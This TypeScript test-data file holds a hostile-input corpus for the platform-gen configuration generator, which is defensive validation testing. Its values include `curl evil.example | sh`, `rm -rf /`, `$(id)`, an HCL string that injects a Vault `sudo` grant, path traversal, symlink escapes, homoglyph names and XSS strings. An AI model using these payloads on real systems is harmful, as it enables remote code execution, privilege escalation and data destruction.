// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${` in plain strings is the hostile input under test
/**
 * The hostile input corpus (issue #10), as data: each case says how to break a copy of the example
 * repository and what platform-gen must answer. Rejected cases expect exit 1, an issue code at a file and
 * line, and not one file changed; accepted cases (prose that may hold quotes, `{{`, look-alike letters)
 * expect the generated YAML, HCL and Markdown to carry the text exactly and nothing more.
 * The foundation's corpus (bad-input.test.ts) is not repeated here.
 */
import type { TempRepo } from './temp-repo.js';

export interface RejectedCase {
  readonly category: string;
  readonly name: string;
  readonly mutate: (repo: TempRepo) => Promise<void>;
  readonly code: string;
  readonly file: string;
  /** 1-based line, or a text that appears on exactly one line of `file` after the mutation. */
  readonly line: number | string;
  /** Run the real binary instead of `main()` in-process. */
  readonly binary?: boolean;
  /** Environment for the run (the load timeout). */
  readonly env?: Readonly<Record<string, string>>;
  /** A genuine bug in platform-gen makes this case fail; it runs as `it.fails` with this reason. */
  readonly bug?: string;
}

export interface AcceptedCase {
  readonly category: string;
  readonly name: string;
  /** Applied to the one shared copy: every accepted case at once, each to a different field. */
  readonly mutate: (repo: TempRepo) => Promise<void>;
  /** The example's value of the field, unique in the generated files; every generated leaf equal to it becomes `value`. */
  readonly old: string;
  readonly value: string;
  /** The field reaches HCL inside this YAML file at this key path: parsed with HashiCorp's parser. */
  readonly hcl?: { readonly file: string; readonly path: readonly (string | number)[]; readonly attribute: string };
}

export const NS = 'namespaces/payments-api/namespace.ts';
export const SECRETS = 'namespaces/payments-api/secrets.ts';
export const PLATFORM = 'platform/platform.ts';

/** A TypeScript string literal for any text (U+2028/9 escaped: they end a line in TypeScript, not in `split('\n')`). */
export function lit(value: string): string {
  return JSON.stringify(value)
    .replace(/\u2028/g, '\\u2028')
    .replace(/\u2029/g, '\\u2029');
}

/** Replaces `key: <old literal>` by `key: <literal of value>` in `file`; the report must name that line. */
function field(
  category: string,
  name: string,
  file: string,
  key: string,
  oldLiteral: string,
  value: string,
  code: string,
  extra: Partial<RejectedCase> = {},
): RejectedCase {
  const replacement = `${key}: ${lit(value)}`;
  return {
    category,
    name,
    mutate: (repo) => repo.replace(file, `${key}: ${oldLiteral}`, replacement),
    code,
    file,
    line: replacement.slice(0, 60),
    ...extra,
  };
}

const nsName = (name: string, value: string, code = 'E_NS_NAME_INVALID') =>
  field('injection: namespace name', name, NS, 'name', `'payments-api'`, value, code);
const nsField = (key: string, old: string, name: string, value: string, code: string) =>
  field(`injection: namespace ${key}`, name, NS, key, `'${old}'`, value, code);
const secretKey = (name: string, value: string) =>
  field('injection: secret key', name, SECRETS, 'key', `'payments/api/db'`, value, 'E_VAULT_PATH_INVALID');
const platformField = (category: string, key: string, old: string, name: string, value: string, code: string) =>
  field(category, name, PLATFORM, key, `'${old}'`, value, code);

/**
 * A namespace in its own folder, named like the folder. A folder that is no DNS-1123 label can never hold a
 * valid namespace: reported at the folder, before anything in it is imported (E_NS_FOLDER_INVALID).
 */
function folderNamespace(
  category: string,
  name: string,
  folder: string,
  extra: Partial<RejectedCase> = {},
): RejectedCase {
  const file = `namespaces/${folder}/namespace.ts`;
  return {
    category,
    name,
    mutate: (repo) =>
      repo.write(
        file,
        [
          `import { defineNamespace } from '@platform-gen/core';`,
          '',
          'export default defineNamespace({',
          `  name: ${lit(folder)},`,
          `  team: 'payments',`,
          '  vault: { approvedPrefixes: [] },',
          '});',
          '',
        ].join('\n'),
      ),
    code: 'E_NS_FOLDER_INVALID',
    file: `namespaces/${folder}`,
    line: 1,
    ...extra,
  };
}

/** Replaces the whole namespace.ts of payments-api with `lines`. */
function nsModule(
  category: string,
  name: string,
  lines: readonly string[],
  code: string,
  line: number | string,
  extra: Partial<RejectedCase> = {},
): RejectedCase {
  return { category, name, mutate: (repo) => repo.write(NS, `${lines.join('\n')}\n`), code, file: NS, line, ...extra };
}

const NS_BODY = [`  name: 'payments-api',`, `  team: 'payments',`, `  vault: { approvedPrefixes: ['payments/api'] },`];
const IMPORT = `import { defineNamespace } from '@platform-gen/core';`;

/** Moves `from` outside the repository and leaves a symbolic link to it in its place. */
function linkOut(from: string): (repo: TempRepo) => Promise<void> {
  return async (repo) => {
    const { cp, rm, symlink } = await import('node:fs/promises');
    const target = `${repo.outside}/${from.replace(/\//g, '_')}`;
    await cp(repo.path(from), target, { recursive: true, preserveTimestamps: true });
    await rm(repo.path(from), { recursive: true });
    await symlink(target, repo.path(from));
  };
}

const LONG = 100_000;

export const REJECTED: readonly RejectedCase[] = [
  // YAML, HCL and shell injection into the fields that must be names, paths or URLs.
  nsName(`single quote`, `payments-api'`),
  nsName('newline and a second key', 'payments-api\nkind: Secret'),
  nsName('${ expansion', '${HOME}'),
  nsName('YAML anchor', '&a payments-api'),
  nsName('YAML document marker', '---'),
  nsField('team', 'payments', 'team with a double quote', 'payments"', 'E_NAME_INVALID'),
  nsField('team', 'payments', 'team with CR LF', 'payments\r\n', 'E_NAME_INVALID'),
  nsField('system', 'payments', 'system with {{ }}', '{{ .Values.system }}', 'E_NAME_INVALID'),
  nsField('system', 'payments', 'system as a YAML alias', '*a', 'E_NAME_INVALID'),
  field(
    'injection: secret name',
    'secret name with a document marker',
    SECRETS,
    'name',
    `'db-credentials'`,
    'db\n---\nkind: Secret',
    'E_SECRET_NAME_INVALID',
  ),
  field(
    'injection: secret name',
    'secret name with $( )',
    SECRETS,
    'name',
    `'psp-api-key'`,
    '$(id)',
    'E_SECRET_NAME_INVALID',
  ),
  secretKey(
    'key closing the HCL path and opening a grant',
    'payments/api/db" {\n  capabilities = ["sudo"]\n}\npath "sys/*',
  ),
  secretKey('key with a Vault policy template ${ }', 'payments/api/{{identity.entity.id}}'),
  secretKey('key with percent-encoded ..', 'payments/api/%2e%2e/%2e%2e/storefront'),
  secretKey('key with backslashes', 'payments\\api\\db'),
  secretKey('key with a NUL', 'payments/api/db\u0000'),
  secretKey('key with a trailing newline', 'payments/api/db\n'),
  field(
    'injection: secret properties',
    'property with a shell command',
    SECRETS,
    'properties',
    `['username', 'password']`,
    'x',
    'E_SECRET_PROPERTY_INVALID',
    {
      mutate: (repo) =>
        repo.replace(SECRETS, `properties: ['username', 'password']`, `properties: ['username', "password; rm -rf /"]`),
      line: 'properties: [',
    },
  ),
  {
    category: 'injection: secret properties',
    name: 'property .. (a path out of the mounted Secret)',
    mutate: (repo) => repo.replace(SECRETS, `properties: ['username', 'password']`, `properties: ['..']`),
    code: 'E_SECRET_PROPERTY_INVALID',
    file: SECRETS,
    line: 'properties: [',
  },
  {
    category: 'injection: secret properties',
    name: 'property with {{ }}',
    mutate: (repo) => repo.replace(SECRETS, `properties: ['username', 'password']`, `properties: ['{{ .password }}']`),
    code: 'E_SECRET_PROPERTY_INVALID',
    file: SECRETS,
    line: 'properties: [',
  },
  field(
    'injection: secret refreshInterval',
    'refreshInterval with a document marker',
    SECRETS,
    'refreshInterval',
    `'15m'`,
    '1h\n---',
    'E_SECRET_REFRESH_INVALID',
  ),
  field(
    'injection: secret refreshInterval',
    'refreshInterval with $( )',
    SECRETS,
    'refreshInterval',
    `'15m'`,
    '$(sleep 10)s',
    'E_SECRET_REFRESH_INVALID',
  ),
  field(
    'injection: sources',
    'repoURL with a quote and a shell command',
    NS,
    'repoURL',
    `'https://git.example.com/payments/payments-api.git'`,
    `https://git.example.com/a.git' && curl evil.example | sh`,
    'E_SOURCE_REPO_INVALID',
  ),
  field(
    'injection: sources',
    'repoURL with a newline and a key',
    NS,
    'repoURL',
    `'https://git.example.com/payments/payments-api.git'`,
    'https://git.example.com/a.git\nproject: default',
    'E_SOURCE_REPO_INVALID',
  ),
  field(
    'path traversal: sources',
    'source path ../..',
    NS,
    'path',
    `'deploy/production'`,
    '../../kubernetes/argocd-apps',
    'E_SOURCE_PATH_INVALID',
  ),
  field(
    'path traversal: sources',
    'source path absolute',
    NS,
    'path',
    `'deploy/production'`,
    '/etc/kubernetes',
    'E_SOURCE_PATH_INVALID',
  ),
  field(
    'path traversal: sources',
    'source path with a .. segment at the end',
    NS,
    'path',
    `'deploy/production'`,
    'deploy/..',
    'E_SOURCE_PATH_INVALID',
  ),
  field(
    'path traversal: sources',
    'source path with backslashes',
    NS,
    'path',
    `'deploy/production'`,
    'deploy\\..\\..\\secrets',
    'E_SOURCE_PATH_INVALID',
  ),
  field(
    'path traversal: sources',
    'source path percent-encoded',
    NS,
    'path',
    `'deploy/production'`,
    'deploy/%2e%2e/%2e%2e',
    'E_SOURCE_PATH_INVALID',
  ),
  field(
    'injection: sources',
    'targetRevision with ; and a command',
    NS,
    'targetRevision',
    `'main'`,
    'main; rm -rf /',
    'E_SOURCE_REVISION_INVALID',
  ),
  field(
    'injection: sources',
    'targetRevision ${{ }}',
    NS,
    'targetRevision',
    `'main'`,
    '${{ github.ref }}',
    'E_SOURCE_REVISION_INVALID',
  ),
  platformField(
    'injection: platform',
    'domain',
    'platform.example.com',
    'domain with a newline',
    'platform.example.com\nevil: true',
    'E_PLATFORM_DOMAIN_INVALID',
  ),
  platformField(
    'unicode: platform',
    'domain',
    'platform.example.com',
    'domain with a Cyrillic а',
    'platform.exаmple.com',
    'E_PLATFORM_DOMAIN_INVALID',
  ),
  platformField(
    'injection: platform',
    'repoURL',
    'https://git.example.com/platform/platform.git',
    'platform repoURL with a quote and #',
    `https://git.example.com/platform.git" # comment`,
    'E_PLATFORM_REPO_URL_INVALID',
  ),
  platformField(
    'injection: platform',
    'server',
    'https://kubernetes.default.svc',
    'cluster server with a newline',
    'https://kubernetes.default.svc\ninsecure: true',
    'E_PLATFORM_SERVER_INVALID',
  ),
  platformField('injection: platform', 'realm', 'platform', 'realm with ../', '../master', 'E_NAME_INVALID'),
  platformField(
    'injection: platform',
    'kvMount',
    'secret',
    'kvMount with ../sys',
    'secret/../sys',
    'E_VAULT_MOUNT_INVALID',
  ),
  platformField(
    'injection: platform',
    'kubernetesGroupPrefix',
    'oidc:',
    'group prefix with a quote',
    'oidc:"',
    'E_PLATFORM_GROUP_PREFIX_INVALID',
  ),
  platformField(
    'injection: HCL',
    'kmsKeyId',
    'alias/example-platform-vault-unseal',
    'kmsKeyId closing the HCL string',
    'alias/x"\n}\nstorage "inmem" {',
    'E_SEAL_VALUE_INVALID',
  ),
  platformField(
    'injection: HCL',
    'region',
    'eu-central-1',
    'seal region with ${ }',
    'eu-${var.region}',
    'E_SEAL_VALUE_INVALID',
  ),
  // Teams and members.
  platformField('injection: teams', 'group', 'team-payments', 'team group with {{ }}', 'team-{{x}}', 'E_GROUP_INVALID'),
  platformField(
    'unicode: teams',
    'username',
    'alice',
    'member username with a bidi override',
    'ali\u202Ece',
    'E_MEMBER_USERNAME_INVALID',
  ),
  platformField(
    'path traversal: teams',
    'username',
    'bob',
    'member username ../../etc/passwd',
    '../../etc/passwd',
    'E_MEMBER_USERNAME_INVALID',
  ),
  platformField(
    'injection: teams',
    'email',
    'alice@example.com',
    'member email with a header injection',
    'alice@example.com\nBcc: all@example.com',
    'E_MEMBER_EMAIL_INVALID',
  ),
  platformField(
    'injection: teams',
    'email',
    'carol@example.com',
    'member email with quotes',
    '"carol"@example.com',
    'E_MEMBER_EMAIL_INVALID',
  ),
  // CODEOWNERS: a newline would add a rule of its own.
  platformField(
    'injection: codeowners',
    'admins',
    '@example/platform-admins',
    'admins owner adding a CODEOWNERS line',
    '@example/platform-admins\n* @evil',
    'E_PLATFORM_CODEOWNER_INVALID',
  ),
  {
    ...field(
      'unicode: codeowners',
      'team owner with a zero-width space',
      PLATFORM,
      'payments',
      `'@example/team-payments'`,
      '@exam\u200Bple/team-payments',
      'E_PLATFORM_CODEOWNER_INVALID',
    ),
  },
  // Bootstrap secrets.
  platformField(
    'path traversal: bootstrap secrets',
    'name',
    'argocd-repo',
    'bootstrap secret name with ../',
    '../../argocd-repo',
    'E_NAME_INVALID',
  ),
  platformField(
    'injection: bootstrap secrets',
    'namespace',
    'argocd',
    'bootstrap namespace with a newline',
    'argocd\n',
    'E_NAME_INVALID',
  ),
  {
    category: 'path traversal: bootstrap secrets',
    name: 'bootstrap key with /',
    mutate: (repo) => repo.replace(PLATFORM, `keys: ['client-secret'],`, `keys: ['../client-secret'],`),
    code: 'E_SECRET_KEY_INVALID',
    file: PLATFORM,
    line: `keys: ['../client-secret'],`,
  },
  {
    category: 'path traversal: bootstrap secrets',
    name: 'bootstrap key .. (the parent of the mounted seed folder)',
    mutate: (repo) => repo.replace(PLATFORM, `keys: ['client-secret'],`, `keys: ['client-secret', '..'],`),
    code: 'E_SECRET_KEY_INVALID',
    file: PLATFORM,
    line: `keys: ['client-secret', '..'],`,
  },
  {
    category: 'injection: bootstrap secrets',
    name: 'bootstrap label value with a newline',
    mutate: (repo) =>
      repo.replace(
        PLATFORM,
        `'argocd.argoproj.io/secret-type': 'repository'`,
        `'argocd.argoproj.io/secret-type': "repository\\nx: y"`,
      ),
    code: 'E_LABEL_VALUE_INVALID',
    file: PLATFORM,
    line: `'argocd.argoproj.io/secret-type'`,
  },
  platformField(
    'path traversal: bootstrap secrets',
    'path',
    'platform/keycloak/admin',
    'handover path with ..',
    'platform/../sys/policy',
    'E_BOOTSTRAP_VAULT_PATH_INVALID',
  ),
  // Catalog.
  platformField(
    'injection: catalog',
    'domain',
    'commerce',
    'system domain with a quote',
    `commerce'`,
    'E_NAME_INVALID',
  ),
  platformField(
    'injection: catalog',
    'owner',
    'storefront',
    'domain owner with a NUL',
    'storefront\u0000',
    'E_NAME_INVALID',
  ),
  // Look-alikes, bidi and zero-width characters in names.
  folderNamespace('unicode: names', 'namespace with a Cyrillic а (folder and name)', 'pаyments-api'),
  folderNamespace('unicode: names', 'namespace in full-width letters', 'ｐａｙｍｅｎｔｓ'),
  folderNamespace('unicode: names', 'namespace with a bidi override U+202E', 'pay\u202Ements'),
  nsName('Cyrillic а in the name (folder ASCII)', 'pаyments-api'),
  folderNamespace('unicode: names', 'namespace with a zero-width joiner', 'pay\u200Dments'),
  folderNamespace('path traversal: names', 'namespace folder with a backslash', 'pay\\ments'),
  folderNamespace('path traversal: names', 'namespace folder percent-encoded ..', '%2e%2e'),
  folderNamespace('path traversal: names', 'namespace folder with a space and a quote', `pay 'ments`),
  field(
    'unicode: names',
    'secret name with a Cyrillic е',
    SECRETS,
    'name',
    `'db-credentials'`,
    'db-crеdentials',
    'E_SECRET_NAME_INVALID',
  ),
  platformField(
    'unicode: names',
    'name',
    'payments',
    'team name with a zero-width space',
    'pay\u200Bments',
    'E_NAME_INVALID',
  ),
  // Prose fields take printable text only (new rule E_TEXT_HIDDEN_CHAR).
  nsField(
    'description',
    'Public payments API',
    'description with a vertical tab',
    'API\u000bkind: Secret',
    'E_TEXT_HIDDEN_CHAR',
  ),
  nsField('description', 'Public payments API', 'description with a lone CR', 'API\rinjected', 'E_TEXT_HIDDEN_CHAR'),
  nsField('description', 'Public payments API', 'description with a NUL', 'API\u0000', 'E_TEXT_HIDDEN_CHAR'),
  nsField(
    'description',
    'Public payments API',
    'description with a terminal escape',
    '\u001b[2J\u001b[31mAPI',
    'E_TEXT_HIDDEN_CHAR',
  ),
  nsField(
    'description',
    'Public payments API',
    'description with a bidi override',
    'API \u202Eevil\u202C',
    'E_TEXT_HIDDEN_CHAR',
  ),
  platformField(
    'prose: platform',
    'description',
    'Card payments and refunds',
    'team description with a right-to-left mark',
    'Card\u200Fpayments',
    'E_TEXT_HIDDEN_CHAR',
  ),
  platformField(
    'prose: platform',
    'displayName',
    'Bob Example',
    'member displayName with a zero-width space',
    'Bob\u200BExample',
    'E_TEXT_HIDDEN_CHAR',
  ),
  platformField(
    'prose: platform',
    'consumer',
    'argocd-repo-server: clones this repository',
    'bootstrap consumer adding a Markdown table row with a lone CR',
    'x |\r| injected | row |',
    'E_TEXT_HIDDEN_CHAR',
  ),
  platformField(
    'prose: platform',
    'suppliedBy',
    'platform admins: random',
    'bootstrap suppliedBy with backspaces hiding text',
    'platform admins\b\b\b\b\b\bnobody',
    'E_TEXT_HIDDEN_CHAR',
  ),
  platformField(
    'prose: platform',
    'holder',
    'platform admins, offline (air-gapped safe); rebuilds a wiped cluster',
    'sops holder with a CR',
    'admins\roffline',
    'E_TEXT_HIDDEN_CHAR',
  ),
  platformField(
    'prose: platform',
    'reason',
    'Vault reads it to start: Vault cannot serve its own certificate',
    'handover reason with a bidi isolate',
    'Vault \u2066reads\u2069 it',
    'E_TEXT_HIDDEN_CHAR',
  ),
  platformField(
    'prose: platform',
    'description',
    'Card payments, refunds and settlement',
    'system description with NEL (C1)',
    'Card\u0085payments',
    'E_TEXT_HIDDEN_CHAR',
  ),
  // Very long strings: rejected, and the report stays short.
  nsField(
    'description',
    'Public payments API',
    `description of ${LONG} characters`,
    'x'.repeat(LONG),
    'E_VALUE_INVALID',
  ),
  nsName(`namespace name of ${LONG} characters`, 'a'.repeat(LONG)),
  secretKey(`secret key of ${LONG} characters`, `payments/api/${'k'.repeat(LONG)}`),
  field(
    'long strings',
    `repoURL of ${LONG} characters`,
    NS,
    'repoURL',
    `'https://git.example.com/payments/payments-api.git'`,
    `https://git.example.com/${'r'.repeat(LONG)}`,
    'E_SOURCE_REPO_INVALID',
  ),
  {
    category: 'huge definitions',
    name: '100,000 secrets in one secrets.ts',
    mutate: (repo) =>
      repo.write(
        SECRETS,
        [
          `import { defineSecrets } from '@platform-gen/core';`,
          '',
          'export default defineSecrets({',
          `  secrets: Array.from({ length: 100_000 }, (_, i) => ({ name: \`s-\${i}\`, key: \`payments/api/\${i}\` })),`,
          '});',
          '',
        ].join('\n'),
      ),
    code: 'E_LIST_INVALID',
    file: SECRETS,
    line: 4,
  },
  nsModule(
    'huge definitions',
    'object nested 10,000 levels deep',
    [
      IMPORT,
      '',
      'let deep: Record<string, unknown> = {};',
      'for (let i = 0; i < 10_000; i++) deep = { deep };',
      'export default defineNamespace({',
      ...NS_BODY,
      '  ...({ quota: deep } as object),',
      '});',
    ],
    'E_DEF_NOT_DATA',
    'export default defineNamespace({',
  ),
  // Symbolic links: definitions are never read through a link, outputs never written through one.
  {
    category: 'symlinks',
    name: 'platform.ts is a symlink to a file outside',
    mutate: linkOut(PLATFORM),
    code: 'E_DEF_SYMLINK',
    file: PLATFORM,
    line: 1,
  },
  {
    category: 'symlinks',
    name: 'platform/ is a symlink to a folder outside',
    mutate: linkOut('platform'),
    code: 'E_DEF_SYMLINK',
    file: 'platform',
    line: 1,
  },
  {
    category: 'symlinks',
    name: 'secrets.ts is a symlink to a file outside',
    mutate: linkOut(SECRETS),
    code: 'E_DEF_SYMLINK',
    file: SECRETS,
    line: 1,
  },
  {
    category: 'symlinks',
    name: 'namespace.ts is a symlink to another namespace in the repository',
    mutate: async (repo) => {
      await repo.remove(NS);
      await repo.symlink('../payments-batch/namespace.ts', NS);
    },
    code: 'E_DEF_SYMLINK',
    file: NS,
    line: 1,
  },
  {
    category: 'symlinks',
    name: 'namespaces/ is a symlink to a folder outside',
    mutate: linkOut('namespaces'),
    code: 'E_NS_SYMLINK',
    file: 'namespaces',
    line: 1,
  },
  {
    category: 'symlinks',
    name: 'generated folder kubernetes/argocd-apps replaced by a symlink outside',
    mutate: linkOut('kubernetes/argocd-apps'),
    code: 'E_OUTPUT_SYMLINK',
    file: 'kubernetes/argocd-apps',
    line: 1,
  },
  {
    category: 'symlinks',
    name: 'kubernetes/ itself a symlink outside',
    mutate: linkOut('kubernetes'),
    code: 'E_OUTPUT_SYMLINK',
    file: 'kubernetes',
    line: 1,
  },
  {
    category: 'symlinks',
    name: 'docs/generated a symlink outside',
    mutate: linkOut('docs/generated'),
    code: 'E_OUTPUT_SYMLINK',
    file: 'docs/generated',
    line: 1,
  },
  {
    category: 'symlinks',
    name: 'CODEOWNERS a symlink to a file outside',
    mutate: linkOut('CODEOWNERS'),
    code: 'E_OUTPUT_SYMLINK',
    file: 'CODEOWNERS',
    line: 1,
  },
  {
    category: 'symlinks',
    name: 'generated namespace folder a symlink into the definitions',
    mutate: async (repo) => {
      await repo.remove('kubernetes/namespaces/payments-api');
      await repo.symlink('../../namespaces/payments-api', 'kubernetes/namespaces/payments-api');
    },
    code: 'E_OUTPUT_SYMLINK',
    file: 'kubernetes/namespaces/payments-api',
    line: 1,
  },
  // Definition modules that do not behave.
  nsModule(
    'modules',
    'throws a string, not an Error',
    [IMPORT, '', `throw 'no namespace today';`, 'export default defineNamespace({', ...NS_BODY, '});'],
    // A thrown string has no stack to point at a line.
    'E_DEF_LOAD',
    1,
  ),
  nsModule(
    'modules',
    'imports a helper that throws',
    [
      IMPORT,
      `import { prefixes } from '../../lib/prefixes.ts';`,
      '',
      'export default defineNamespace({',
      ...NS_BODY.slice(0, 2),
      '  vault: { approvedPrefixes: prefixes },',
      '});',
    ],
    'E_DEF_LOAD',
    1,
    {
      mutate: async (repo) => {
        await repo.write(
          'lib/prefixes.ts',
          `throw new Error('prefix service down');\nexport const prefixes: string[] = [];\n`,
        );
        await repo.write(
          NS,
          `${[IMPORT, `import { prefixes } from '../../lib/prefixes.ts';`, '', 'export default defineNamespace({', ...NS_BODY.slice(0, 2), '  vault: { approvedPrefixes: prefixes },', '});'].join('\n')}\n`,
        );
      },
    },
  ),
  {
    category: 'modules',
    name: 'two definitions importing each other (a cycle)',
    mutate: async (repo) => {
      await repo.write(
        NS,
        `${[IMPORT, `import batch from '../payments-batch/namespace.ts';`, '', 'export default defineNamespace({', ...NS_BODY.slice(0, 2), '  vault: { approvedPrefixes: [`${batch.vault.approvedPrefixes[0]}-api`] },', '});'].join('\n')}\n`,
      );
      await repo.write(
        'namespaces/payments-batch/namespace.ts',
        `${[IMPORT, `import api from '../payments-api/namespace.ts';`, '', 'export default defineNamespace({', `  name: 'payments-batch',`, `  team: api.team,`, `  vault: { approvedPrefixes: ['payments/batch'] },`, '});'].join('\n')}\n`,
      );
    },
    code: 'E_DEF_LOAD',
    file: NS,
    line: 1,
  },
  nsModule(
    'modules',
    'exports the define function itself',
    [IMPORT, '', 'export default defineNamespace;'],
    'E_DEF_WRONG_KIND',
    3,
  ),
  nsModule(
    'modules',
    'exports a Promise of a definition',
    [IMPORT, '', 'export default Promise.resolve(defineNamespace({', ...NS_BODY, '}));'],
    'E_DEF_WRONG_KIND',
    3,
  ),
  nsModule('modules', 'exports a string', ['export default "payments-api";'], 'E_DEF_WRONG_KIND', 1),
  nsModule(
    'modules',
    'syntax error: unterminated template literal',
    [IMPORT, '', 'export default defineNamespace({', `  name: \`payments-\${'api'`, ...NS_BODY.slice(1), '});'],
    'E_DEF_SYNTAX',
    5,
    { binary: true },
  ),
  nsModule(
    'modules',
    'exports an object with a getter that throws',
    [
      IMPORT,
      '',
      `const definition = defineNamespace({`,
      ...NS_BODY,
      '});',
      `Object.defineProperty(definition, 'description', {`,
      '  enumerable: true,',
      `  get() { throw new Error('no description'); },`,
      '});',
      'export default definition;',
    ],
    'E_DEF_NOT_DATA',
    3,
  ),
  nsModule(
    'modules',
    'exports a Proxy whose ownKeys trap throws',
    [
      IMPORT,
      '',
      'export default new Proxy(defineNamespace({',
      ...NS_BODY,
      '}), {',
      `  ownKeys() { throw new Error('no keys'); },`,
      '});',
    ],
    'E_DEF_NOT_DATA',
    3,
  ),
  nsModule(
    'modules',
    'exports a revoked Proxy',
    [
      IMPORT,
      '',
      'const { proxy, revoke } = Proxy.revocable(defineNamespace({',
      ...NS_BODY,
      '}), {});',
      'revoke();',
      'export default proxy;',
    ],
    // The module loader itself trips over the revoked Proxy when it links the default export.
    'E_DEF_LOAD',
    1,
  ),
  nsModule(
    'modules',
    'calls process.exit(0) while loading',
    [IMPORT, '', 'process.exit(0);', 'export default defineNamespace({', ...NS_BODY, '});'],
    'E_DEF_LOAD',
    1,
    { binary: true },
  ),
  nsModule(
    'modules',
    'throws later, from a timer',
    [
      IMPORT,
      '',
      `setTimeout(() => { throw new Error('late failure'); }, 0);`,
      'await new Promise((resolve) => setTimeout(resolve, 50));',
      'export default defineNamespace({',
      ...NS_BODY,
      '});',
    ],
    'E_DEF_LOAD',
    3,
  ),
  nsModule(
    'modules',
    'leaves a promise rejected',
    [
      IMPORT,
      '',
      `void Promise.reject(new Error('nobody catches this'));`,
      'await new Promise((resolve) => setTimeout(resolve, 50));',
      'export default defineNamespace({',
      ...NS_BODY,
      '});',
    ],
    'E_DEF_LOAD',
    3,
  ),
  nsModule(
    'modules',
    'awaits a promise that never settles',
    [IMPORT, '', 'await new Promise(() => {});', 'export default defineNamespace({', ...NS_BODY, '});'],
    'E_DEF_LOAD',
    1,
  ),
  // Definitions that take too long: the worker is terminated, the file named (limit lowered for the test).
  nsModule(
    'too long',
    'an endless loop at load time',
    [IMPORT, '', 'while (true) {}', 'export default defineNamespace({', ...NS_BODY, '});'],
    'E_DEFINITION_TIMEOUT',
    1,
    {
      env: { PLATFORM_GEN_LOAD_TIMEOUT_MS: '4000' },
      binary: true,
    },
  ),
  nsModule(
    'too long',
    'a busy wait of an hour',
    [
      IMPORT,
      '',
      'const end = Date.now() + 3_600_000;',
      'while (Date.now() < end) {}',
      'export default defineNamespace({',
      ...NS_BODY,
      '});',
    ],
    'E_DEFINITION_TIMEOUT',
    1,
    {
      env: { PLATFORM_GEN_LOAD_TIMEOUT_MS: '4000' },
    },
  ),
  nsModule(
    'too long',
    'an interval that keeps the loader alive forever',
    [
      IMPORT,
      '',
      'setInterval(() => {}, 1000);',
      'await new Promise(() => {});',
      'export default defineNamespace({',
      ...NS_BODY,
      '});',
    ],
    'E_DEFINITION_TIMEOUT',
    1,
    {
      env: { PLATFORM_GEN_LOAD_TIMEOUT_MS: '4000' },
    },
  ),
];

/** Replaces `key: '<old>'` in platform.ts (or `file`) with the hostile value. */
function prose(category: string, name: string, key: string, old: string, value: string, file = PLATFORM): AcceptedCase {
  return {
    category,
    name,
    old,
    value,
    mutate: (repo) => repo.replace(file, `${key}: '${old}'`, `${key}: ${lit(value)}`),
  };
}

export const ACCEPTED: readonly AcceptedCase[] = [
  prose(
    'accepted: line breaks',
    'bootstrap consumer with line breaks, a YAML key and a document marker',
    'consumer',
    'keycloak: its PostgreSQL database',
    'keycloak:\nkind: Secret\n---\n- its database',
  ),
  prose(
    'accepted: line breaks',
    'bootstrap suppliedBy with a tab and U+2028',
    'suppliedBy',
    'platform admins: the database password',
    'platform\tadmins\u2028the password',
  ),
  prose(
    'accepted: quotes',
    `namespace description with ' " and \``,
    'description',
    'Public payments API',
    `It's "double", 'single' and \`back\` quoted`,
    NS,
  ),
  prose(
    'accepted: templates',
    'namespace description with {{ }}, ${ }, $( ), #{ }',
    'description',
    'Nightly settlement jobs',
    '{{ .Values.secret }} {{- include "x" . }} ${HOME} $(id) `id` #{x} %{y}',
    'namespaces/payments-batch/namespace.ts',
  ),
  prose(
    'accepted: YAML syntax',
    'namespace description with anchors, aliases and tags',
    'description',
    'The web shop frontend',
    '&anchor *alias !!python/object:os.system ["id"] !<tag:yaml.org,2002:str> x',
    'namespaces/storefront-web/namespace.ts',
  ),
  prose(
    'accepted: YAML syntax',
    'team description with document markers and indicators',
    'description',
    'Card payments and refunds',
    '--- ... # comment: key: value - item | > ? [a] {b: c} %YAML 1.1',
  ),
  prose('accepted: YAML 1.1', 'domain description "yes"', 'description', 'Selling and getting paid', 'yes'),
  prose(
    'accepted: YAML 1.1',
    'system description 0755',
    'description',
    'Card payments, refunds and settlement',
    '0755',
  ),
  prose(
    'accepted: unicode',
    'member displayName with Cyrillic look-alikes',
    'displayName',
    'Alice Example',
    'Аlice Ехаmple',
  ),
  prose(
    'accepted: unicode',
    'member displayName in full-width letters',
    'displayName',
    'Bob Example',
    'Ｂｏｂ　Ｅｘａｍｐｌｅ',
  ),
  prose(
    'accepted: unicode',
    'member displayName with an emoji ZWJ sequence',
    'displayName',
    'Carol Example',
    'Carol 👩‍💻 Example',
  ),
  prose(
    'accepted: Markdown',
    'bootstrap consumer with table pipes and backslashes',
    'consumer',
    'argocd-repo-server: clones this repository',
    'a | b \\| c \\ d || e',
  ),
  prose(
    'accepted: quotes',
    'bootstrap suppliedBy of 200 quote characters',
    'suppliedBy',
    'platform admins: a read-only deploy token from the Git host',
    `'"`.repeat(100),
  ),
  prose(
    'accepted: Markdown',
    'sops holder with HTML and entities',
    'holder',
    'platform admins, offline (air-gapped safe); rebuilds a wiped cluster',
    '<img src=x onerror=alert(1)> &amp; <!-- x -->',
  ),
  prose(
    'accepted: Markdown',
    'handover reason with backticks and emphasis',
    'reason',
    'Vault reads it to start: Vault cannot serve its own certificate',
    '`code` and **bold** _it_ [link](javascript:alert(1))',
  ),
  prose(
    'accepted: whitespace',
    'bootstrap consumer with leading and trailing spaces',
    'consumer',
    'vault: listener and raft peers',
    '  padded: yes  ',
  ),
  {
    ...prose(
      'accepted: HCL',
      'kmsKeyId with : / . and .. (HCL string)',
      'kmsKeyId',
      'alias/example-platform-vault-unseal',
      'arn:aws:kms:eu-central-1:111122223333:key/../x_y-z.1',
    ),
    hcl: { file: 'charts/vault/values.yaml', path: ['server', 'ha', 'raft', 'config'], attribute: 'kms_key_id' },
  },
];
